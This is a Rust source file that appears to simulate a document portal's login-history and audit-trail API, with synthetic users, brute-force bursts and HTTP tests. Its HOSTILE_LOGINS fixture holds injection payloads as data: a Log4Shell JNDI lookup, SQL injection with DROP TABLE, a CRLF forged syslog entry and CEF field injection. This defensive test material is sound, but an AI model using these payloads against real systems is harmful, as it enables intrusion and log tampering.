fn render_template(template: &str, value: &str) -> String {
    if !template.contains("{0}") {
        return template.to_owned();
    }
    let joined = value
        .split(',')
        .filter(|s| !s.is_empty())
        .collect::<Vec<_>>()
        .join(", ");
    template.replace("{0}", &joined)
}

// ---------------------------------------------------------------------------------------------
// Realistic data
// ---------------------------------------------------------------------------------------------

/// A portal user and their usual client.
#[derive(Debug)]
struct Profile {
    name: &'static str,
    id: &'static str,
    email: &'static str,
    ip: &'static str,
    country: &'static str,
    city: &'static str,
    browser: &'static str,
    platform: &'static str,
}

/// Index of the service account in [`USERS`].
const SERVICE_USER: usize = 3;

const USERS: [Profile; 12] = [
    Profile {
        name: "Alice Johnson",
        id: "9b1e4f7a-2c3d-4e5f-8a6b-7c8d9e0f1a2b",
        email: "alice.johnson@example.com",
        ip: "203.0.113.45",
        country: "Germany",
        city: "Berlin",
        browser: "Chrome 131",
        platform: "Windows 10",
    },
    Profile {
        name: "Carol Diaz",
        id: "5d2f8c61-0a4b-4e9f-b3c7-8e1d2a6f4b05",
        email: "carol.diaz@example.com",
        ip: "203.0.113.200",
        country: "France",
        city: "Paris",
        browser: "Edge 131",
        platform: "Mac OS X 10 Apple Mac",
    },
    Profile {
        name: "Dave Miller",
        id: "1c9e7b3a-6d42-4f8e-a5b1-0e7d3c2f9a64",
        email: "dave.miller@example.com",
        ip: "10.20.30.40",
        country: "",
        city: "",
        browser: "Mobile Safari 18",
        platform: "iOS 18 Apple iPhone",
    },
    Profile {
        name: "SIEM Service",
        id: "3f8a1c52-7d4e-4b0a-9c61-2e5d8b7a9f10",
        email: "siem@example.com",
        ip: "198.51.100.77",
        country: "Netherlands",
        city: "Amsterdam",
        browser: "Python Requests 2",
        platform: "Other",
    },
    Profile {
        name: "Eve Turner",
        id: "c4e7a0d2-5b8f-4c1e-9d3a-6f2b1e8c7d90",
        email: "eve.turner@example.com",
        ip: "198.51.100.23",
        country: "United Kingdom",
        city: "London",
        browser: "Firefox 133",
        platform: "Ubuntu",
    },
    Profile {
        name: "Frank Müller",
        id: "7a3d9e21-4b6c-4d8f-9e0a-1b2c3d4e5f60",
        email: "frank.mueller@example.com",
        ip: "2a02:8108:1a40:5e00:9c1f:2b3a:4c5d:6e7f",
        country: "Germany",
        city: "Munich",
        browser: "Chrome 130",
        platform: "Windows 10",
    },
    Profile {
        name: "Grace Lee",
        id: "2e4f6a8c-0b1d-4e3f-8a5b-7c9d1e3f5a7b",
        email: "grace.lee@example.com",
        ip: "192.168.1.34",
        country: "",
        city: "",
        browser: "Safari 18",
        platform: "Mac OS X 10 Apple Mac",
    },
    Profile {
        name: "Hiro Tanaka",
        id: "8b0d2f4a-6c8e-4a1b-9d3f-5e7a9c1b3d5f",
        email: "hiro.tanaka@example.com",
        ip: "203.0.113.9",
        country: "Japan",
        city: "Tokyo",
        browser: "Chrome Mobile 131",
        platform: "Android 14 Samsung SM-S921B",
    },
    Profile {
        name: "Inês Carvalho",
        id: "4d6f8b0a-2c4e-4f6a-8b0c-2d4f6a8b0c2e",
        email: "ines.carvalho@example.com",
        ip: "198.51.100.140",
        country: "Portugal",
        city: "Lisbon",
        browser: "Firefox 133",
        platform: "Windows 10",
    },
    Profile {
        name: "Jamal Okafor",
        id: "6f8a0c2e-4a6c-4e8a-a0c2-4e6a8c0e2a4c",
        email: "jamal.okafor@example.com",
        ip: "2001:db8:3c4d:15::1a2f",
        country: "Nigeria",
        city: "Lagos",
        browser: "Chrome 131",
        platform: "Linux",
    },
    Profile {
        name: "Ольга Смирнова",
        id: "0a2c4e6a-8c0e-4a2c-b4e6-8a0c2e4a6c8e",
        email: "olga.smirnova@example.com",
        ip: "203.0.113.77",
        country: "Latvia",
        city: "Riga",
        browser: "Yandex Browser 24",
        platform: "Windows 10",
    },
    Profile {
        name: "李伟",
        id: "9e1a3c5e-7a9c-4e1a-83c5-e7a9c1e3a5c7",
        email: "li.wei@example.com",
        ip: "198.51.100.5",
        country: "Singapore",
        city: "Singapore",
        browser: "Edge 131",
        platform: "Windows 10",
    },
];

/// Occasional other networks a user logs in from: VPN, home, private ranges, IPv6.
const ALT_NETS: &[(&str, &str, &str)] = &[
    ("198.51.100.14", "Netherlands", "Amsterdam"),
    ("192.168.10.5", "", ""),
    ("172.16.4.20", "", ""),
    ("2a02:810d:4b3f:a200::1c", "Germany", "Frankfurt am Main"),
    ("203.0.113.130", "Spain", "Madrid"),
    ("10.0.8.17", "", ""),
];

/// A brute-force source.
#[derive(Debug)]
struct Attacker {
    ip: &'static str,
    country: &'static str,
    city: &'static str,
    browser: &'static str,
    platform: &'static str,
}

const ATTACKERS: &[Attacker] = &[
    Attacker {
        ip: "192.0.2.66",
        country: "",
        city: "",
        browser: "Firefox 133",
        platform: "Ubuntu",
    },
    Attacker {
        ip: "198.51.100.250",
        country: "Russia",
        city: "Moscow",
        browser: "Python Requests 2",
        platform: "Other",
    },
    Attacker {
        ip: "2001:db8:85a3::8a2e:370:7334",
        country: "",
        city: "",
        browser: "curl 8",
        platform: "Other",
    },
    Attacker {
        ip: "203.0.113.250",
        country: "China",
        city: "Shenzhen",
        browser: "Chrome 99",
        platform: "Linux",
    },
    Attacker {
        ip: "192.0.2.13",
        country: "Brazil",
        city: "São Paulo",
        browser: "Other",
        platform: "Other",
    },
];

/// User names typed by attackers, chosen to break naive log formats.
const HOSTILE_LOGINS: &[&str] = &[
    "admin|CEF:0|Evil|Corp|1|fake|10|",
    "root=1 suser=admin act=allow",
    "CORP\\administrator",
    "\"quoted\" admin@example.com",
    "admin] [severity=0",
    "alice@example.com\r\nJan 15 14:00:00 docspace sshd[1]: Accepted password for root",
    "nul\u{0}byte@example.com",
    "line\u{2028}separator@example.com",
    "<!channel> please reset my password",
    "' OR '1'='1' --",
    "${jndi:ldap://198.51.100.9/a}",
    "admin\\\"; DROP TABLE login_events; --",
    "tab\tseparated@example.com",
];

/// Ordinary names typed in failed attempts.
const PLAIN_LOGINS: &[&str] = &[
    "administrator",
    "admin@example.com",
    "bob@example.com",
    "test",
    "info@example.com",
];

const ROOMS: &[(&str, &str)] = &[
    ("Finance", "4821"),
    ("Legal", "4830"),
    ("Marketing Q1", "5102"),
    ("Проекты", "5517"),
    ("HR — Onboarding", "6003"),
];

const FILES: &[&str] = &[
    "Q4-financials.xlsx",
    "Board minutes 2025-01.docx",
    "Résumé — Jean-Luc.pdf",
    "Отчёт за квартал.docx",
    "Budget,v2.xlsx",
    "contract_signed_final_FINAL(3).pdf",
    "Very long file name that keeps going for the sake of testing the shortened text.docx",
    "設計書.pptx",
    "notes.txt",
    "Salaries 2025 | confidential.xlsx",
];

const FOLDERS: &[&str] = &["Contracts", "Invoices 2025", "Архив", "Drafts"];

fn hostile_login(rng: &mut fastrand::Rng) -> String {
    match rng.usize(..HOSTILE_LOGINS.len() + 2) {
        i if i < HOSTILE_LOGINS.len() => HOSTILE_LOGINS[i].to_owned(),
        i if i == HOSTILE_LOGINS.len() => format!("{}@example.com", "A".repeat(1500)),
        _ => PLAIN_LOGINS[rng.usize(..PLAIN_LOGINS.len())].to_owned(),
    }
}

fn random_guid(rng: &mut fastrand::Rng) -> String {
    format!(
        "{:08x}-{:04x}-4{:03x}-{:x}{:03x}-{:012x}",
        rng.u32(..),
        rng.u16(..),
        rng.u16(..0x1000),
        8 + rng.u8(..4),
        rng.u16(..0x1000),
        rng.u64(..1 << 48)
    )
}

/// Sets the client fields of `ev` from `user`, sometimes from another network.
fn set_client(rng: &mut fastrand::Rng, ev: &mut SimEvent, user: &Profile) {
    ev.user = user.name.to_owned();
    ev.user_id = user.id.to_owned();
    ev.browser = user.browser.to_owned();
    ev.platform = user.platform.to_owned();
    if rng.u8(..100) < 10 {
        let (ip, country, city) = ALT_NETS[rng.usize(..ALT_NETS.len())];
        ev.ip = ip.to_owned();
        ev.country = country.to_owned();
        ev.city = city.to_owned();
    } else {
        ev.ip = user.ip.to_owned();
        ev.country = user.country.to_owned();
        ev.city = user.city.to_owned();
    }
}

fn gen_login(rng: &mut fastrand::Rng, burst: &mut Option<Burst>, date: OffsetDateTime) -> SimEvent {
    if let Some(b) = burst.as_mut() {
        let code = if b.failures_before_lockout > 0 {
            b.failures_before_lockout -= 1;
            1013
        } else {
            1023
        };
        let mut ev = SimEvent::login(date, code);
        ev.user = b.login.clone();
        ev.login = Some(b.login.clone());
        ev.ip = b.attacker.ip.to_owned();
        ev.country = b.attacker.country.to_owned();
        ev.city = b.attacker.city.to_owned();
        ev.browser = b.attacker.browser.to_owned();
        ev.platform = b.attacker.platform.to_owned();
        ev.page = if b.attacker.browser == "Python Requests 2" || b.attacker.browser == "curl 8" {
            format!("{PORTAL}/api/2.0/authentication")
        } else {
            format!("{PORTAL}/login")
        };
        b.remaining = b.remaining.saturating_sub(1);
        if b.remaining == 0 {
            *burst = None;
        }
        return ev;
    }

    let roll = rng.u8(..100);
    if roll >= 97 {
        // Start a brute-force burst: a few wrong passwords, then lockouts.
        let attacker = &ATTACKERS[rng.usize(..ATTACKERS.len())];
        let login = if rng.bool() {
            hostile_login(rng)
        } else {
            USERS[rng.usize(..USERS.len())].email.to_owned()
        };
        *burst = Some(Burst {
            remaining: rng.u32(4..12),
            failures_before_lockout: rng.u32(2..6),
            attacker,
            login,
        });
        return gen_login(rng, burst, date);
    }

    let user_idx = rng.usize(..USERS.len());
    let user = &USERS[user_idx];
    let code = if user_idx == SERVICE_USER {
        if roll < 95 { 1010 } else { 1013 }
    } else {
        match roll {
            0..=39 => 1029,
            40..=49 => 1010,
            50..=62 => 1013,
            63..=74 => 1006,
            75..=82 => 1015,
            83..=86 => 1025,
            87..=90 => 1021,
            91..=93 => 1028,
            94 => 1026,
            95 => 1005,
            _ => 1000,
        }
    };
    let mut ev = SimEvent::login(date, code);
    set_client(rng, &mut ev, user);
    ev.page = match code {
        1010 | 1028 => format!("{PORTAL}/api/2.0/authentication"),
        1015 => "https://login.microsoftonline.com/".to_owned(),
        1025 | 1021 => format!("{PORTAL}/confirm/TfaAuth"),
        1006 => format!(
            "{PORTAL}/rooms/shared/filter?folder={}",
            ROOMS[rng.usize(..ROOMS.len())].1
        ),
        _ => format!("{PORTAL}/login"),
    };
    match code {
        1006 => ev.login = Some(user.name.to_owned()),
        1025 => {
            // Wrong 2FA code: display name as initiator, Guest as actor.
            ev.user_id = GUEST_USER_ID.to_owned();
            ev.login = Some(user.name.to_owned());
        }
        c if is_login_failure(c) => {
            let typed = if rng.u8(..100) < 20 {
                hostile_login(rng)
            } else {
                user.email.to_owned()
            };
            ev.user_id = GUEST_USER_ID.to_owned();
            ev.user = typed.clone();
            ev.login = Some(typed);
        }
        _ => ev.login = None,
    }
    ev
}

fn gen_audit(rng: &mut fastrand::Rng, date: OffsetDateTime) -> SimEvent {
    let code = match rng.u8(..100) {
        0..=23 => 5011,
        24..=41 => 5009,
        42..=51 => 5000,
        52..=59 => 5002,
        60..=65 => 5019,
        66..=71 => 5018,
        72..=75 => 5017,
        76..=79 => 5070,
        80..=84 => 4000,
        85..=88 => 4006,
        89..=90 => 4018,
        91..=92 => 6035,
        93..=94 => 6027,
        95..=96 => 6028,
        _ => 5008,
    };
    let mut ev = SimEvent::audit(date, code);
    let mut user_idx = rng.usize(..USERS.len());
    if user_idx == SERVICE_USER {
        user_idx = 0;
    }
    set_client(rng, &mut ev, &USERS[user_idx]);
    let Some(map) = audit_map(code) else {
        return ev;
    };
    let (room, room_id) = ROOMS[rng.usize(..ROOMS.len())];
    match map.entries.first() {
        Some(1) => {
            let file = FILES[rng.usize(..FILES.len())];
            ev.action_text = render_template(map.template, file);
            ev.target = Some(vec![rng.u32(10_000..99_999).to_string()]);
        }
        Some(2) => {
            let folder = FOLDERS[rng.usize(..FOLDERS.len())];
            ev.action_text = render_template(map.template, folder);
            ev.target = Some(vec![rng.u32(1_000..9_999).to_string()]);
        }
        Some(25) => {
            ev.action_text = render_template(map.template, room);
            ev.target = Some(vec![room_id.to_owned()]);
        }
        Some(23) => {
            let other = &USERS[rng.usize(..USERS.len())];
            let guid = if code == 4000 {
                random_guid(rng)
            } else {
                other.id.to_owned()
            };
            ev.action_text = render_template(map.template, other.name);
            ev.target = Some(vec![guid]);
        }
        _ => {
            ev.action_text = map.template.to_owned();
            ev.target = None;
        }
    }
    if map.product == 2 {
        if rng.u8(..100) < 15 {
            ev.context = "My documents".to_owned();
            ev.page = format!("{PORTAL}/rooms/personal/filter");
        } else {
            ev.context = format!("Rooms: {room}");
            ev.page = format!("{PORTAL}/rooms/shared/{room_id}/filter?folder={room_id}");
        }
    }
    ev
}

// ---------------------------------------------------------------------------------------------
// Tests
// ---------------------------------------------------------------------------------------------

#[cfg(test)]
mod tests {
    use super::*;
    use time::macros::datetime;
    use tokio::io::{AsyncReadExt, AsyncWriteExt};

    const KEY: &str = "sk-test-0123456789abcdef";

    fn sim(zone: SimZone) -> Simulator {
        Simulator::new(SimConfig {
            api_key: KEY.to_owned(),
            zone,
            seed: 7,
        })
    }

    struct Resp {
        status: u16,
        headers: Vec<(String, String)>,
        body: String,
    }

    impl Resp {
        fn header(&self, name: &str) -> Option<&str> {
            self.headers
                .iter()
                .find(|(k, _)| k.eq_ignore_ascii_case(name))
                .map(|(_, v)| v.as_str())
        }
        fn json(&self) -> serde_json::Value {
            serde_json::from_str(&self.body).expect("json body")
        }
        fn items(&self) -> Vec<serde_json::Value> {
            self.json()["response"]
                .as_array()
                .cloned()
                .expect("response array")
        }
    }

    /// A raw HTTP/1.1 GET: the target is sent byte for byte (no client-side escaping).
    async fn get_raw(addr: SocketAddr, target: &str, auth: Option<&str>) -> Resp {
        get_raw_with(addr, target, auth, &[]).await
    }

    /// [`get_raw`] with more request headers.
    async fn get_raw_with(
        addr: SocketAddr,
        target: &str,
        auth: Option<&str>,
        extra: &[(&str, &str)],
    ) -> Resp {
        let mut s = tokio::net::TcpStream::connect(addr).await.expect("connect");
        let mut req = format!("GET {target} HTTP/1.1\r\nHost: {addr}\r\nConnection: close\r\n");
        if let Some(a) = auth {
            req.push_str(&format!("Authorization: {a}\r\n"));
        }
        for (name, value) in extra {
            req.push_str(&format!("{name}: {value}\r\n"));
        }
        req.push_str("\r\n");
        s.write_all(req.as_bytes()).await.expect("write");
        let mut buf = Vec::new();
        s.read_to_end(&mut buf).await.expect("read");
        let text = String::from_utf8(buf).expect("utf8 response");
        let (head, body) = text.split_once("\r\n\r\n").expect("head/body");
        let mut lines = head.lines();
        let status = lines
            .next()
            .and_then(|l| l.split_whitespace().nth(1))
            .and_then(|c| c.parse().ok())
            .expect("status line");
        let headers = lines
            .filter_map(|l| l.split_once(':'))
            .map(|(k, v)| (k.trim().to_owned(), v.trim().to_owned()))
            .collect();
        Resp {
            status,
            headers,
            body: body.to_owned(),
        }
    }

    async fn get(addr: SocketAddr, target: &str) -> Resp {
        get_raw(addr, target, Some(&format!("Bearer {KEY}"))).await
    }

    const LOGIN: &str = "/api/2.0/security/audit/login/filter";
    const EVENTS: &str = "/api/2.0/security/audit/events/filter";

    #[tokio::test]
    async fn envelope_shape_items_and_key_order() {
        let sim = sim(SimZone::EuropeBerlin);
        let mut ok = SimEvent::login(datetime!(2025-01-15 13:32:07 UTC), 1010);
        ok.user = "SIEM Service".into();
        ok.user_id = "3f8a1c52-7d4e-4b0a-9c61-2e5d8b7a9f10".into();
        ok.ip = "198.51.100.77".into();
        ok.country = "Netherlands".into();
        ok.city = "Amsterdam".into();
        ok.browser = "Python Requests 2".into();
        ok.platform = "Other".into();
        ok.page = "https://docspace.example.com/api/2.0/authentication".into();
        let id_ok = sim.insert(ok);
        let id_fail = sim.insert(SimEvent::login(datetime!(2025-01-15 12:58:12 UTC), 1023));
        let srv = sim
            .serve("127.0.0.1:0".parse().expect("addr"))
            .await
            .expect("serve");

        let r = get(srv.addr, &format!("{LOGIN}?count=100&startIndex=0")).await;
        assert_eq!(r.status, 200);
        assert_eq!(
            r.header("content-type"),
            Some("application/json; charset=utf-8")
        );
        let expected_first = format!(
            "{{\"response\":[{{\"id\":{id_ok},\"date\":\"2025-01-15T14:32:07.0000000+01:00\",\"user\":\"SIEM Service\",\
             \"userId\":\"3f8a1c52-7d4e-4b0a-9c61-2e5d8b7a9f10\",\"action\":\"Successful Login via API\",\"actionId\":1010,\
             \"ip\":\"198.51.100.77\",\"country\":\"Netherlands\",\"city\":\"Amsterdam\",\"browser\":\"Python Requests 2\",\
             \"platform\":\"Other\",\"page\":\"https://docspace.example.com/api/2.0/authentication\"}},"
        );
        assert!(r.body.starts_with(&expected_first), "{}", r.body);
        let expected_second = format!(
            "{{\"id\":{id_fail},\"date\":\"2025-01-15T13:58:12.0000000+01:00\",\"user\":\"bob@example.com\",\
             \"userId\":\"{GUEST_USER_ID}\",\"login\":\"bob@example.com\",\"action\":\"Login Fail. Too many attempts\",\
             \"actionId\":1023,\"ip\":\"192.0.2.66\",\"country\":\"\",\"city\":\"\",\"browser\":\"Firefox 133\",\
             \"platform\":\"Ubuntu\",\"page\":\"https://docspace.example.com/login\"}}]"
        );
        assert!(r.body.contains(&expected_second), "{}", r.body);
        let tail = format!(
            "],\"count\":2,\"links\":[{{\"href\":\"http://{}{LOGIN}?count=100&startIndex=0\",\"action\":\"GET\"}}],\"status\":0,\"statusCode\":200}}",
            srv.addr
        );
        assert!(r.body.ends_with(&tail), "{}", r.body);
        assert!(!r.body.contains("\"total\""));

        // Audit: `target` omitted when None, `entries: []` kept, field order as in the fixture.
        sim.insert(SimEvent::audit(datetime!(2025-01-15 13:40:02 UTC), 6035));
        sim.insert(SimEvent::audit(datetime!(2025-01-15 12:31:18 UTC), 5011));
        let r = get(srv.addr, EVENTS).await;
        assert_eq!(r.status, 200);
        assert!(r.body.contains(
            "\"page\":\"https://docspace.example.com/portal-settings/security/audit-trail\",\"actionType\":2,\"product\":7,\
             \"location\":29,\"entries\":[],\"context\":\"Settings\"}"
        ), "{}", r.body);
        assert!(
            r.body
                .contains("\"action\":\"File Uploaded: Q4-financials.xlsx\",\"actionId\":5011,")
        );
        assert!(r.body.contains("\"actionType\":13,\"product\":2,\"location\":1,\"target\":[\"15432\"],\"entries\":[1],\"context\":\"Rooms: Finance\"}"));
        let items = r.items();
        assert_eq!(items.len(), 2);
        assert!(items[0].get("target").is_none());
        assert!(items.iter().all(|i| i.get("login").is_none()));
        assert!(r.body.ends_with("\"status\":0,\"statusCode\":200}"));

        // Fixed endpoints.
        let r = get(srv.addr, "/api/2.0/security/audit/settings/lifetime").await;
        assert!(r.body.starts_with(
            "{\"response\":{\"loginHistoryLifeTime\":180,\"auditTrailLifeTime\":180,\"lastModified\":\"0001-01-01T00:00:00\"},\"count\":1,"
        ));
        let r = get(srv.addr, "/api/2.0/authentication").await;
        assert!(r.body.starts_with("{\"response\":true,\"count\":1,"));
        let r = get(srv.addr, "/api/2.0/nope").await;
        assert_eq!((r.status, r.body.as_str()), (404, ""));
    }

    /// 250 rows one minute apart, newest at `base`; returns (sim, dates newest first).
    fn paged_fixture(stream: SimStream) -> (Simulator, Vec<OffsetDateTime>) {
        let sim = sim(SimZone::Utc);
        let base = datetime!(2025-06-01 12:00:00 UTC);
        let dates: Vec<OffsetDateTime> = (0..250)
            .map(|i| base - time::Duration::minutes(i))
            .collect();
        for d in dates.iter().rev() {
            let ev = match stream {
                SimStream::Login => SimEvent::login(*d, 1029),
                SimStream::Audit => SimEvent::audit(*d, 5011),
            };
            sim.insert(ev);
        }
        (sim, dates)
    }

    fn zulu(d: OffsetDateTime) -> String {
        SimZone::Utc.format(d).replace(".0000000", "")
    }

    #[tokio::test]
    async fn login_filter_takes_the_window_before_filtering() {
        let (sim, dates) = paged_fixture(SimStream::Login);
        let srv = sim
            .serve("127.0.0.1:0".parse().expect("addr"))
            .await
            .expect("serve");
        // `from` excludes the oldest 40 rows: 210 matches.
        let from = zulu(dates[209]);
        let mut sizes = Vec::new();
        for start in [0, 100, 200] {
            let r = get(
                srv.addr,
                &format!("{LOGIN}?from={from}&count=100&startIndex={start}"),
            )
            .await;
            assert_eq!(r.status, 200);
            sizes.push(r.items().len());
        }
        assert_eq!(sizes, vec![100, 100, 10]);

        // A narrow window in the past: the first page is EMPTY although matches exist further back.
        let (from, to) = (zulu(dates[160]), zulu(dates[150]));
        let first = get(srv.addr, &format!("{LOGIN}?from={from}&to={to}&count=100")).await;
        assert_eq!(first.items().len(), 0);
        let second = get(
            srv.addr,
            &format!("{LOGIN}?from={from}&to={to}&count=100&startIndex=100"),
        )
        .await;
        assert_eq!(second.items().len(), 11);
        // Negative startIndex is ignored.
        let neg = get(srv.addr, &format!("{LOGIN}?count=5&startIndex=-7")).await;
        assert_eq!(neg.items()[0]["date"], "2025-06-01T12:00:00.0000000Z");
    }

    #[tokio::test]
    async fn audit_filter_pages_normally() {
        let (sim, dates) = paged_fixture(SimStream::Audit);
        let srv = sim
            .serve("127.0.0.1:0".parse().expect("addr"))
            .await
            .expect("serve");
        let from = zulu(dates[209]);
        let mut sizes = Vec::new();
        for start in [0, 100, 200] {
            let r = get(
                srv.addr,
                &format!("{EVENTS}?from={from}&count=100&startIndex={start}"),
            )
            .await;
            sizes.push(r.items().len());
        }
        assert_eq!(sizes, vec![100, 100, 10]);
        let (from, to) = (zulu(dates[160]), zulu(dates[150]));
        let first = get(srv.addr, &format!("{EVENTS}?from={from}&to={to}&count=100")).await;
        assert_eq!(first.items().len(), 11);
        // Newest first with the id as tie-breaker.
        let ids: Vec<i64> = first
            .items()
            .iter()
            .filter_map(|i| i["id"].as_i64())
            .collect();
        assert!(ids.windows(2).all(|w| w[0] > w[1]));
    }

    #[test]
    fn dates_render_in_the_portal_zone() {
        let berlin = SimZone::EuropeBerlin;
        assert_eq!(
            berlin.format(datetime!(2025-03-30 00:59:59 UTC)),
            "2025-03-30T01:59:59.0000000+01:00"
        );
        assert_eq!(
            berlin.format(datetime!(2025-03-30 01:00:00 UTC)),
            "2025-03-30T03:00:00.0000000+02:00"
        );
        assert_eq!(
            berlin.format(datetime!(2025-10-26 00:59:59 UTC)),
            "2025-10-26T02:59:59.0000000+02:00"
        );
        assert_eq!(
            berlin.format(datetime!(2025-10-26 01:00:00 UTC)),
            "2025-10-26T02:00:00.0000000+01:00"
        );
        assert_eq!(
            berlin.format(datetime!(2024-03-31 01:00:00 UTC)),
            "2024-03-31T03:00:00.0000000+02:00"
        );
        assert_eq!(
            SimZone::Utc.format(datetime!(2025-07-01 08:00:00 UTC)),
            "2025-07-01T08:00:00.0000000Z"
        );
        assert_eq!(
            SimZone::Fixed { minutes: -330 }.format(datetime!(2025-07-01 08:00:00 UTC)),
            "2025-07-01T02:30:00.0000000-05:30"
        );
    }

    #[tokio::test]
    async fn dates_over_http_across_dst_and_stored_at_second_precision() {
        let sim = sim(SimZone::EuropeBerlin);
        sim.insert(SimEvent::login(
            datetime!(2025-03-30 00:59:59.987 UTC),
            1029,
        ));
        sim.insert(SimEvent::login(datetime!(2025-03-30 03:00:00 +02:00), 1029));
        let srv = sim
            .serve("127.0.0.1:0".parse().expect("addr"))
            .await
            .expect("serve");
        let r = get(srv.addr, LOGIN).await;
        let dates: Vec<String> = r
            .items()
            .iter()
            .filter_map(|i| i["date"].as_str().map(str::to_owned))
            .collect();
        assert_eq!(
            dates,
            vec![
                "2025-03-30T03:00:00.0000000+02:00",
                "2025-03-30T01:59:59.0000000+01:00"
            ]
        );
        let utc = self::sim(SimZone::Utc);
        utc.insert(SimEvent::audit(datetime!(2025-07-01 10:00:00 +02:00), 6035));
        let srv2 = utc
            .serve("127.0.0.1:0".parse().expect("addr"))
            .await
            .expect("serve");
        let r = get(srv2.addr, EVENTS).await;
        assert_eq!(r.items()[0]["date"], "2025-07-01T08:00:00.0000000Z");
    }

    #[tokio::test]
    async fn unauthorized_requests_get_401_with_empty_body() {
        let sim = sim(SimZone::Utc);
        sim.insert(SimEvent::login(datetime!(2025-01-01 00:00:00 UTC), 1029));
        let srv = sim
            .serve("127.0.0.1:0".parse().expect("addr"))
            .await
            .expect("serve");
        for auth in [
            None,
            Some(KEY.to_owned()),
            Some("Bearer sk-wrong".to_owned()),
            Some(format!("Basic {KEY}")),
        ] {
            let r = get_raw(srv.addr, LOGIN, auth.as_deref()).await;
            assert_eq!(r.status, 401, "{auth:?}");
            assert_eq!(r.body, "");
        }
        let r = get_raw(srv.addr, "/api/2.0/authentication", Some(KEY)).await;
        assert!(r.body.starts_with("{\"response\":false,"));
        sim.set_mode(SimMode::Unauthorized);
        assert_eq!(get(srv.addr, EVENTS).await.status, 401);
        let reqs = sim.requests();
        assert_eq!(reqs.len(), 6);
        assert!(reqs.iter().all(|r| !r.authorized));
        assert_eq!(reqs[0].path, LOGIN);
    }

    #[tokio::test]
    async fn modes_403_402_and_validation_order() {
        let sim = sim(SimZone::Utc);
        let srv = sim
            .serve("127.0.0.1:0".parse().expect("addr"))
            .await
            .expect("serve");
        sim.set_mode(SimMode::Forbidden);
        let r = get(srv.addr, LOGIN).await;
        assert_eq!(r.status, 403);
        assert_eq!(r.json()["error"]["message"], "Access denied");
        assert_eq!(r.json()["statusCode"], 403);
        sim.set_mode(SimMode::PaymentRequired);
        let r = get(srv.addr, "/api/2.0/security/audit/events/last").await;
        assert_eq!(r.status, 402);
        assert_eq!(
            r.json()["error"]["message"],
            "Your pricing plan does not support this option"
        );
        assert_eq!(r.json()["status"], 1);
        // Model validation runs before the permission checks.
        assert_eq!(get(srv.addr, &format!("{LOGIN}?count=0")).await.status, 400);
        assert!(
            get(srv.addr, "/api/2.0/authentication")
                .await
                .body
                .contains("\"response\":true")
        );
    }

    #[tokio::test]
    async fn count_out_of_range_is_a_400_inside_the_envelope() {
        let sim = sim(SimZone::Utc);
        let srv = sim
            .serve("127.0.0.1:0".parse().expect("addr"))
            .await
            .expect("serve");
        for q in ["count=0", "count=101", "COUNT=500"] {
            let r = get(srv.addr, &format!("{LOGIN}?{q}")).await;
            assert_eq!(r.status, 400, "{q}");
            let j = r.json();
            assert_eq!(j["status"], 1);
            assert_eq!(j["statusCode"], 400);
            assert_eq!(j["count"], 1);
            assert_eq!(
                j["response"]["errors"]["count"][0],
                "The field Count must be between 1 and 100."
            );
            assert_eq!(
                j["response"]["title"],
                "One or more validation errors occurred."
            );
            assert_eq!(
                j["links"][0]["href"],
                format!("http://{}{LOGIN}?{q}", srv.addr)
            );
            assert!(r.body.starts_with("{\"response\":{\"type\":\"https://tools.ietf.org/html/rfc9110#section-15.5.1\",\"title\""));
        }
        assert_eq!(
            get(srv.addr, &format!("{EVENTS}?count=100")).await.status,
            200
        );
        assert_eq!(
            get(srv.addr, &format!("{EVENTS}?count=1")).await.status,
            200
        );
    }

    #[tokio::test]
    async fn date_parameters_follow_api_date_time() {
        let sim = sim(SimZone::Utc);
        sim.insert(SimEvent::login(datetime!(2025-01-01 01:00:00 UTC), 1029));
        let srv = sim
            .serve("127.0.0.1:0".parse().expect("addr"))
            .await
            .expect("serve");
        let status = |q: &'static str| {
            let addr = srv.addr;
            async move { get(addr, &format!("{LOGIN}?from={q}")).await }
        };
        for ok in [
            "2025-01-01T00:00:00Z",
            "2025-01-01T00:00:00.000Z",
            "2025-01-01T00:00:00.0000000Z",
            "2025-01-01T01:00:00%2B01:00",
            "2025-01-01T00:00:00-01:00",
        ] {
            assert_eq!(status(ok).await.status, 200, "{ok}");
        }
        for bad in [
            "2025-01-01T00:00:00.000000Z",
            "2025-01-01T00:00:00+01:00",
            "2025-01-01T00:00:00.00Z",
            "01/01/2025",
            "2025-13-01T00:00:00Z",
            "yesterday",
        ] {
            let r = status(bad).await;
            assert_eq!(r.status, 400, "{bad}");
            assert!(r.json()["response"]["errors"]["from"].is_array(), "{bad}");
        }
        // v3.7.1+: a value without a zone is a 400 too.
        for zoneless in [
            "2025-01-01",
            "2025-01-01T00:00:00",
            "2025-01-01T02:00:00.000",
        ] {
            let r = status(zoneless).await;
            assert_eq!(r.status, 400, "{zoneless}");
            assert_eq!(
                r.json()["response"]["errors"]["from"][0],
                "The input was not valid.",
                "{zoneless}"
            );
        }
        // Before 3.7.1 it was read in the server's local zone (here UTC+03:00), not UTC: the
        // row at 01:00Z is >= "02:00 local" = 23:00Z the day before.
        sim.set_server_local_offset(DEFAULT_SERVER_LOCAL_OFFSET_MINUTES);
        assert_eq!(status("2025-01-01").await.status, 200);
        assert_eq!(status("2025-01-01T02:00:00").await.items().len(), 1);
        assert_eq!(status("2025-01-01T02:00:00Z").await.items().len(), 0);
        // Inclusive bounds.
        let r = get(
            srv.addr,
            &format!("{LOGIN}?from=2025-01-01T01:00:00Z&to=2025-01-01T01:00:00Z"),
        )
        .await;
        assert_eq!(r.items().len(), 1);
    }

    #[tokio::test]
    async fn action_and_user_filters() {
        let sim = sim(SimZone::Utc);
        let base = datetime!(2025-02-01 00:00:00 UTC);
        sim.insert(SimEvent::login(base, 1029));
        sim.insert(SimEvent::login(base + time::Duration::minutes(1), 1023));
        sim.insert(SimEvent::login(base + time::Duration::minutes(2), 1013));
        let srv = sim
            .serve("127.0.0.1:0".parse().expect("addr"))
            .await
            .expect("serve");
        for (q, n) in [
            ("action=1023", 1),
            ("action=LoginFailBruteForce", 1),
            ("ACTION=loginfailbruteforce", 1),
            ("action=-1", 3),
            ("action=None", 3),
            ("action=FileCreated", 0),
            ("userId=712D9EC3-5D2B-4B13-824F-71F00191DCCA", 2),
            ("userid=00000000-0000-0000-0000-000000000000", 3),
        ] {
            let r = get(srv.addr, &format!("{LOGIN}?{q}")).await;
            assert_eq!((r.status, r.items().len()), (200, n), "{q}");
        }
        for q in [
            "action=0",
            "action=1",
            "action=abc",
            "userId=nope",
            "startIndex=x",
        ] {
            assert_eq!(
                get(srv.addr, &format!("{LOGIN}?{q}")).await.status,
                400,
                "{q}"
            );
        }
    }

